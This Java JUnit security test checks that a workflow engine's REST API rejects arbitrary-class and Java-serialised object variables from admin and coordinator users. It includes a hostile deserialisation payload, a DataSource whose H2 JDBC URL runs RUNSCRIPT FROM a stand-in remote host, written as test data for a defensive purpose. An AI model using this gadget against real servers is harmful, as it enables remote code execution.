package no.pakkeforlop.security;

import static no.pakkeforlop.testsupport.TestData.ADMIN;
import static no.pakkeforlop.testsupport.TestData.COORDINATOR;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.http.ResponseEntity;

/**
 * Issue 12, finding 5: an {@code Object} variable of an arbitrary class
 * ({@code DriverManagerDataSource}) was stored over REST and deserialised on read. Java
 * serialisation is off as a format, and JSON objects are built only of allowed types
 * (java.util, java.time, the application's own): refused for staff and operators alike.
 */
class JavaObjectsFromRestTest extends SecurityTestSupport {

    static ObjectNode object(String type, String format, String value) {
        ObjectNode variable = JSON.createObjectNode().put("value", value).put("type", "Object");
        variable.putObject("valueInfo").put("objectTypeName", type).put("serializationDataFormat", format);
        return variable;
    }

    static final ObjectNode DATA_SOURCE_JSON = object("org.springframework.jdbc.datasource.DriverManagerDataSource",
            "application/json", "{\"url\":\"jdbc:h2:mem:evil;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'\"}");
    static final ObjectNode JAVA_SERIALIZED = object("java.lang.String", "application/x-java-serialized-object",
            "rO0ABXQAA2FiYw==");

    @Test
    void anOperatorCannotStoreAnArbitraryClassNorJavaSerialisation() {
        String pi = startPathway("HEN-SEC5-OPS", "2026-05-04");
        Map<String, Object> before = state(pi);
        long audits = audits();
        for (ObjectNode hostile : new ObjectNode[] { DATA_SOURCE_JSON, JAVA_SERIALIZED }) {
            ResponseEntity<String> answer = put(ADMIN, "/engine-rest/process-instance/" + pi + "/variables/evil",
                    hostile);
            assertThat(answer.getStatusCode().value()).as(answer.getBody()).isBetween(400, 599);
            assertThat(answer.getBody()).doesNotContain("\tat ").doesNotContain("org.springframework");
        }
        assertThat(state(pi)).isEqualTo(before);
        assertThat(runtime.getVariable(pi, "evil")).isNull();
        assertThat(audits()).isEqualTo(audits);
    }

    @Test
    void staffCannotSendObjectsEitherNotEvenAsAFormField() {
        String pi = startPathway("HEN-SEC5-STAFF", "2026-05-04");
        Map<String, Object> before = state(pi);
        assertThat(put(COORDINATOR, "/engine-rest/process-instance/" + pi + "/variables/evil", DATA_SOURCE_JSON)
            .getStatusCode()
            .value()).isEqualTo(403);
        String taskId = task(pi, "registerFirstAttendance").getId();
        ObjectNode body = JSON.createObjectNode();
        body.putObject("variables").set("firstAttendanceType", DATA_SOURCE_JSON);
        ((ObjectNode) body.get("variables")).set("firstAttendanceDate",
                JSON.createObjectNode().put("value", "2026-05-04").put("type", "String"));
        ResponseEntity<String> answer = post(COORDINATOR, "/engine-rest/task/" + taskId + "/complete", body);
        assertThat(answer.getStatusCode().value()).as(answer.getBody()).isBetween(400, 599);
        assertThat(state(pi)).isEqualTo(before);
    }

}
